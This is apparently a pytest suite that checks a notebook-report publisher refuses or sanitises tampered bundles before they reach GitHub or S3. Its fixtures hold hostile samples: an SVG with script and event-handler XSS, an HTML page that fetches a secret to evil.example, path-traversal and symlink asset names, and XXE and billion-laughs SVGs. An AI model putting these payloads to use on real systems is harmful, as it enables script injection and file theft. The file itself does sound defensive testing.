"""Issue 14, item 3: a report bundle made by an untrusted job publishes nothing but images.

Crafted bundles (as a fork's workflow could upload them) are published through the forge
emulator (real PyGithub over HTTP) and to moto's S3 server (real boto3).
"""

# ruff: noqa: F811  (test parameters named like the imported `s3` fixture)

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from forge_emulator import scenarios

from cml_nb.cli import main
from cml_nb.errors import NotebookReadError
from cml_nb.publish import publish
from cml_nb.report import ImageBlock, Report, load_bundle, write_bundle
from cml_nb.report.trust import sanitize_svg
from tests.test_storage import s3  # noqa: F401 - the moto fixture, shared

SECRET = "TOP-SECRET-do-not-publish"
EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="10" height="10" onload="alert(1)">'
    b"<script>alert(document.cookie)</script>"
    b'<foreignObject width="10" height="10"><iframe src="https://evil.example/"/></foreignObject>'
    b'<image xlink:href="https://evil.example/track.png" width="1" height="1"/>'
    b'<a href="javascript:alert(2)"><rect width="5" height="5"/></a>'
    b'<rect width="10" height="10" fill="red" onclick="alert(3)" '
    b'style="fill: url(https://evil.example/x)"/>'
    b'<circle r="3" fill="url(#grad)"/>'
    b"</svg>"
)


@pytest.fixture(autouse=True)
def _fast_writes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CML_NB_GITHUB_WRITE_INTERVAL", "0")


def _retarget(bundle: Path, name: str, mime: str | None = None) -> None:
    """Rewrite report.json so its one asset is called ``name`` (as a tampering job would)."""
    path = bundle / "report.json"
    data = json.loads(path.read_text())
    (old,) = data["assets"]
    entry = data["assets"].pop(old)
    entry["name"], entry["mime"] = name, mime or entry["mime"]
    data["assets"][name] = entry
    text = json.dumps(data).replace(old, name)  # the image block links it too
    path.write_text(text)


def _traversal_bundle(tmp_path: Path) -> Path:
    (tmp_path / "secret.txt").write_text(SECRET)
    bundle = scenarios.bundle(tmp_path / "b", images=1)
    _retarget(bundle, "../../secret.txt")
    return bundle


def _html_bundle(tmp_path: Path) -> Path:
    page = f"<html><script>fetch('https://evil.example/?{SECRET}')</script></html>".encode()
    bundle = scenarios.bundle(tmp_path / "b", images=1)
    name = hashlib.sha256(page).hexdigest() + ".png"
    (bundle / "assets" / name).write_bytes(page)
    _retarget(bundle, name, "text/html")
    return bundle


def _svg_bundle(tmp_path: Path) -> Path:
    report = Report(title="t", notebook="n.ipynb", status="succeeded", metrics={})
    asset = report.add_asset(EVIL_SVG, "image/svg+xml")
    report.blocks.append(ImageBlock(asset=asset.name))
    return write_bundle(report, tmp_path / "b")


def _s3_objects() -> dict[str, tuple[bytes, str]]:
    import boto3

    client = boto3.client("s3")
    found = {}
    for item in client.list_objects_v2(Bucket="reports").get("Contents", []):
        got = client.get_object(Bucket="reports", Key=item["Key"])
        found[item["Key"]] = (got["Body"].read(), got["ContentType"])
    return found


def _sent(emulator) -> str:
    return "\n".join(str(x) for x in emulator.exchanges)


@pytest.mark.parametrize(
    ("make", "why"),
    [
        (_traversal_bundle, "is not a content-hash name"),
        (_html_bundle, "is not an image, not one of the hosted image types"),
    ],
    ids=["path-traversal", "text-html"],
)
def test_a_tampered_bundle_uploads_nothing_to_s3(
    forge_emulator, tmp_path: Path, s3: str, make, why: str
) -> None:
    s = scenarios.github(forge_emulator, tmp_path)
    bundle = make(tmp_path)
    with pytest.raises(NotebookReadError, match=why) as caught:
        publish(bundle, env=s.env, storage="s3://reports/r")
    assert "\n" not in str(caught.value) and "rebuild it with `cml-nb report`" in str(caught.value)
    assert _s3_objects() == {}
    assert s.comments == []
    assert SECRET not in _sent(forge_emulator)


def test_a_tampered_bundle_commits_nothing_to_the_forge(forge_emulator, tmp_path: Path) -> None:
    s = scenarios.github(forge_emulator, tmp_path)
    bundle = _traversal_bundle(tmp_path)
    result = CliRunner().invoke(main, ["publish", str(bundle)], env=s.env)
    assert result.exit_code == 3, result.output
    assert "not safe to publish" in result.output and "Traceback" not in result.output
    assert s.comments == [] and "heads/cml-nb-assets" not in s.repo.git.refs
    assert SECRET not in _sent(forge_emulator) and SECRET not in result.output


def test_bytes_that_do_not_hash_to_their_name_are_refused(tmp_path: Path) -> None:
    bundle = scenarios.bundle(tmp_path / "b", images=1)
    (image,) = (bundle / "assets").iterdir()
    image.write_bytes(scenarios.png(99))  # a different (valid) PNG under the old name
    with pytest.raises(NotebookReadError, match="do not hash to its name"):
        load_bundle(bundle)


def test_a_symlinked_asset_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_bytes(scenarios.png(7))
    bundle = scenarios.bundle(tmp_path / "b", images=0)
    name = hashlib.sha256(scenarios.png(7)).hexdigest() + ".png"
    (bundle / "assets").mkdir(exist_ok=True)
    (bundle / "assets" / name).symlink_to(tmp_path / "secret.txt")
    data = json.loads((bundle / "report.json").read_text())
    data["assets"] = {name: {"name": name, "mime": "image/png"}}
    (bundle / "report.json").write_text(json.dumps(data))
    with pytest.raises(NotebookReadError, match="is not a regular file"):
        load_bundle(bundle)


def test_the_type_comes_from_the_bytes_not_report_json(tmp_path: Path) -> None:
    bundle = scenarios.bundle(tmp_path / "b", images=1)
    (name,) = json.loads((bundle / "report.json").read_text())["assets"]
    _retarget(bundle, name, "text/html")
    report = load_bundle(bundle)
    assert report.assets[name].mime == "image/png"


def test_publish_hosts_the_svg_sanitised(forge_emulator, tmp_path: Path, s3: str) -> None:
    s = scenarios.github(forge_emulator, tmp_path)
    result = publish(_svg_bundle(tmp_path), env=s.env, storage="s3://reports/r")
    objects = _s3_objects()
    assert len(objects) == 1 and len(result.uploaded) == 1
    ((key, (data, content_type)),) = objects.items()
    assert content_type == "image/svg+xml"
    assert key == f"r/{hashlib.sha256(data).hexdigest()}.svg"  # named by the clean bytes
    text = data.decode()
    for bad in ("<script", "onload", "onclick", "foreignObject", "evil.example", "javascript:"):
        assert bad not in text, bad
    assert 'fill="red"' in text and 'fill="url(#grad)"' in text
    assert key.removeprefix("r/") in s.pull.comments[0].body


@pytest.mark.parametrize(
    "svg",
    [
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect',
    ],
    ids=["billion-laughs", "external-entity", "truncated"],
)
def test_an_svg_that_cannot_be_sanitised_is_refused(svg: bytes) -> None:
    assert sanitize_svg(svg) is None


def test_a_matplotlib_svg_survives_sanitising() -> None:
    import io

    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([1, 2, 3], [1, 4, 9], label="y")
    ax.legend()
    buffer = io.BytesIO()
    fig.savefig(buffer, format="svg")
    plt.close(fig)
    clean = sanitize_svg(buffer.getvalue())
    assert clean is not None
    text = clean.decode()
    assert text.count("<path") >= buffer.getvalue().decode().count("<path") - 1
    assert "<use" in text and 'href="#' in text  # markers and glyphs link inside the file
